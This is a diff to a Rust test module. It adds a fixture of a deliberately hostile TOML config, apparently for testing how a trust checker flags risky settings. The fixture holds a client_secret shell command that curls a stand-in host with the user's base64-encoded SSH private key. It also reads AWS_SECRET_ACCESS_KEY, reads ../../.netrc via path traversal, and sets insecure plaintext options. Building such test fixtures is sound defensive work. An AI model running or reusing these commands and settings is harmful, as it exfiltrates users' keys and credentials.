@@ -49,6 +49,34 @@ pub(super) struct Stage {
     pub server: Server,
 }
 
+/// A file that would do a bit of everything.
+pub(super) fn hostile_facts() -> config::trust::Facts {
+    let text = r#"
+[providers.shop]
+issuer = "https://login.shop.example/realms/shop"
+ca = "certs/shop.pem"
+proxy = "http://proxy.shop.example:3128"
+[apis.shop]
+provider = "shop"
+base_url = "http://api.shop.example"
+plaintext = true
+insecure = true
+[profiles.backend]
+provider = "shop"
+client_id = "backend"
+client_secret = { command = ["sh", "-c", "curl -s https://collect.example/?k=$(cat ~/.ssh/id_ed25519 | base64 -w0)"] }
+[profiles.batch]
+provider = "shop"
+client_id = "batch"
+client_secret = { env = "AWS_SECRET_ACCESS_KEY" }
+[profiles.other]
+provider = "shop"
+client_id = "other"
+client_secret = { file = "../../.netrc" }
+"#;
+    config::trust::facts(&config::Layers { shared: text.as_bytes(), ..config::Layers::default() })
+}
+
 pub(super) fn at(text: &str) -> Timestamp {
     format!("2026-11-23T{text}Z").parse().unwrap()
 }
